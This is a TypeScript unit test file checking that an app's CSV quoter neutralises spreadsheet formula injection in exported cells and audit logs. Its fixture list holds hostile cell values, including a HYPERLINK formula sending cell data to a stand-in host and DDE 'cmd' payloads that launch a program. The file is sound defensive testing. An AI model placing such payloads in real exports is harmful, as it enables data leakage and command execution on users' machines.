// Unit: the one CSV quoter (electron/shared/csv.ts), read back cell by cell with a real CSV parser as a spreadsheet
// would: no cell a spreadsheet would run as a formula, plain numbers (an E.164 number, -5, +1.5) kept exactly.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { csvCell, isFormulaLike } from '../../electron/shared/csv.ts';
import { auditCsv } from '../../renderer/src/lib/audit-csv.ts';

/** What a spreadsheet evaluates: a cell starting with = + - @ tab or CR, unless it is a plain signed number. */
function wouldRun(cell: string): boolean {
  return /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(?:\.\d+)?$/.test(cell);
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '=1+1',
  '@SUM(A1:A2)',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '+',
  '-',
  '\t=1+1',
  '\r=1+1',
  '=cmd|"/c calc"!A1,more',
];
const PLAIN = ['+12125550111', '-5', '+1.5', '5', '12.75', 'Telia Wholesale', '', 'a=b', 'x@example.com', '(212) 555-0111', "it's", 'line one\n=second line'];

test('every hostile cell is neutralised and every plain value is kept exactly, read back by a CSV parser', () => {
  const row = [...HOSTILE, ...PLAIN].map(csvCell).join(',');
  const [cells] = parse(row, { relax_quotes: false }) as string[][];
  assert.equal(cells!.length, HOSTILE.length + PLAIN.length);
  for (const [i, cell] of cells!.entries()) assert.ok(!wouldRun(cell), `cell ${i} would run as a formula: ${JSON.stringify(cell)}`);
  HOSTILE.forEach((h, i) => assert.equal(cells![i], `'${h}`, 'a neutralised cell keeps its text after the apostrophe'));
  PLAIN.forEach((p, i) => assert.equal(cells![HOSTILE.length + i], p));
});

test('the formula test: signs followed by a plain number are data', () => {
  for (const s of ['+12125550111', '-5', '+1.5', '-0.25', '42']) assert.equal(isFormulaLike(s), false, s);
  for (const s of ['+1 212 555 0111', '-5e3', '+1.', '-.5', '+1,5', '=5', '@a']) assert.equal(isFormulaLike(s), true, s);
});

test('the audit CSV download neutralises cluster names and error texts from a cluster', () => {
  const csv = auditCsv([
    {
      id: 1, at: 0, clusterId: 'c', clusterName: '=HYPERLINK("http://x")', scope: 'global', resourceId: 'r', draftId: null, action: 'update',
      diff: [{ path: 'name', kind: 'changed' }], beforeHash: null, afterHash: null, requestId: '@req', result: 'failed', error: '-1+1 refused',
    },
  ]);
  const rows = parse(csv) as string[][];
  for (const cell of rows[1]!) assert.ok(!wouldRun(cell), `would run: ${cell}`);
  assert.equal(rows[1]![1], '\'=HYPERLINK("http://x")');
});
